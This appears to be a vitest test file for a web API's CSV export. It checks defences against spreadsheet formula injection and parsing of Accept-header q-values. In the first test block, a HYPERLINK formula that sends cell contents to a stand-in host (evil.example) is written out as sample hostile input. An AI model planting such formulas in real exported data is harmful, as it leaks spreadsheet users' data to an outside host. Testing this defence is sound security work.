import { describe, expect, it } from "vitest";
import { csvField, toCsv, wantsCsv } from "../../../worker/api/csv";
import { call, loginAdmin, seedDataset } from "./helpers";

describe("formula-safe CSV (OWASP CSV injection)", () => {
  it("neutralises text cells a spreadsheet would run, keeps numbers numbers", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    );
    for (const start of ["+", "-", "@", "\t", "\r"])
      expect(csvField(`${start}1+2`).startsWith(`'${start}`) || csvField(`${start}1+2`).startsWith(`"'${start}`)).toBe(
        true,
      );
    expect(csvField(-1_034_280)).toBe("-1034280");
    expect(csvField("Palo Verde")).toBe("Palo Verde");
    expect(toCsv(["name", "mwh"], [{ name: "@SUM(A1)", mwh: -5 }])).toBe("name,mwh\r\n'@SUM(A1),-5\r\n");
  });

  it("a plant named as a formula is served neutralised by format=csv", async () => {
    await seedDataset("csv-injection", 2011, [
      { state: "TX", name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', net: 100 },
      { state: "TX", name: "Negative Hydro", net: -50 },
    ]);
    const res = await call("/api/v1/plants/top?year=2011&format=csv", { token: await loginAdmin() });
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).toMatch(/Negative Hydro,TX,-50,/);
  });
});

describe("Accept q-values", () => {
  it("honours q-values, including q=0", () => {
    expect(wantsCsv(undefined, "text/csv;q=0, application/json")).toBe(false);
    expect(wantsCsv(undefined, "application/json;q=0.5, text/csv")).toBe(true);
    expect(wantsCsv(undefined, "text/csv;q=0.4, application/json;q=0.9")).toBe(false);
    expect(wantsCsv(undefined, "text/*, application/json;q=0.1")).toBe(true);
    expect(wantsCsv(undefined, "text/csv, application/json")).toBe(true);
    expect(wantsCsv(undefined, "application/json, text/csv")).toBe(false);
    expect(wantsCsv(undefined, "*/*")).toBe(false);
  });
});
